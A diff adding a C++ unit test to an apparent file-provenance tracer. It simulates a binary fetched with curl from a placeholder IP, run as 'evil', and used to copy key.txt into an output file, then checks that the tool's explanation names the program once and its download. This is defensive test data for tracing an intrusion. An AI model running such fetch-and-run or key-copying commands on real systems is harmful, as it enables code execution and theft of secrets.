@@ -66,6 +66,29 @@ TEST(Programs, ABinaryFetchedAndRunIsListedWithItsDownload) {
   EXPECT_NE(im.text.find("run as the program of"), std::string::npos) << im.text;
 }
 
+// `evil sh -c 'cat key.txt > out'` (a multi-call binary re-exec'ing itself): both images
+// ran the same program file; the answer lists it once.
+TEST(Programs, AProgramTwoImagesRanIsListedOnce) {
+  TempDir dir;
+  World w(dir.path() + "/prov.db");
+  auto sh = w.setup({{10, "key.txt"}});
+  made_by(w, sh, 200, {"curl", "-o", kTool, "http://203.0.113.5/x"}, kTool, 7001);
+  World::Proc evil = w.fork(sh, 201);
+  w.exec_program(evil, kTool, {kTool, "sh", "-c", "cat key.txt > out"}, 7001);
+  w.exec_program(evil, kTool, {"cat", "key.txt"}, 7001);
+  w.read(201, 10);
+  w.write_new(201, 12, "out");
+  w.exit(evil);
+  w.commit();
+  auto r = why(*w.db, path("out"));
+  ASSERT_TRUE(r.found) << r.message;
+  const std::string line = std::string("program ") + kTool;
+  const size_t first = r.text.find(line);
+  ASSERT_NE(first, std::string::npos) << r.text;
+  EXPECT_EQ(r.text.find(line, first + 1), std::string::npos) << r.text;
+  EXPECT_NE(r.text.find("curl -o"), std::string::npos) << "where it came from: " << r.text;
+}
+
 // A copy made by a program: its copy restriction keeps the program (it decided the copy).
 TEST(Programs, AProgramThatOnlyCopiedStillListsItsProgram) {
   TempDir dir;
